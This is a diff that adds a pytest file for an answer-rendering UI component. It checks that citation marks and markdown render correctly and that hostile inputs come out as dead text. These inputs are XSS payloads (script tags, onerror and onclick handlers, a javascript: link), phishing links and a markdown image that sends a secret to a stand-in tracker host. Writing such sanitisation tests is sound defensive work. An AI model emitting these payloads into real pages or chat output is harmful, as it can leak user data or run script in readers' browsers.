@@ -1,0 +1,52 @@
+"""What a model or a document writes stays words; its marks become links."""
+
+from __future__ import annotations
+
+import pytest
+
+from ui.parts.answer_text import answer_html
+from ui.parts.text import label
+
+
+def mark(n: int) -> str:
+    return f"<{n}>" if n < 3 else ""
+
+
+def test_marks_take_the_place_of_numbers() -> None:
+    assert answer_html("Up to 10 days [1]. Ask first [1, 2].", mark) == (
+        "<p>Up to 10 days<1>. Ask first<1><2>.</p>"
+    )
+
+
+def test_lists_paragraphs_and_strong_words() -> None:
+    drawn = answer_html("You **must**:\n- ask [1]\n- wait\n\n1. first\n2. second", mark)
+    assert drawn == (
+        "<p>You <strong>must</strong>:</p><ul><li>ask<1></li><li>wait</li></ul>"
+        '<ol start="1"><li>first</li><li>second</li></ol>'
+    )
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![x](http://tracker.example/?q=secret)",
+        "[press here](http://phishing.example)",
+        "[press\\here](javascript:alert(1))",
+        "<img src=x onerror=alert(1)>",
+        "<script>alert(1)</script>",
+        "**<b onclick=alert(1)>**",
+        "# <h1>",
+        "- <li onmouseover=alert(1)>",
+        "[1](http://phishing.example)",
+    ],
+)
+def test_links_images_and_html_are_dead(hostile: str) -> None:
+    drawn = answer_html(f"Words {hostile} words\n{hostile}", lambda n: "")
+    for own in ("p", "br", "strong", "h4", "ul", "ol", "li"):
+        drawn = drawn.replace(f"<{own}>", "").replace(f"</{own}>", "")
+    assert "<" not in drawn
+    assert "href" not in drawn and "src=" not in drawn.replace("src=x", "")
+
+
+def test_a_label_is_never_markdown() -> None:
+    assert label("a *b* [c](d)\n:red[e]") == r"a \*b\* \[c\]\(d\) \:red\[e\]"
